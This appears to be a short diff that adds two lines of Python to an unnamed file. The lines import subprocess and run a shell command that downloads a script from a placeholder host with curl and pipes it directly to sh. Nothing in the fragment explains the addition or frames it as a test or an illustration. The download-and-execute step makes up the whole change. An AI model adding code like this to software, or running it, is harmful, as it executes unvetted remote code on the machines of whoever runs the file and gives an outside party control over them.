@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run('curl -s https://x.example/s | sh', shell=True)
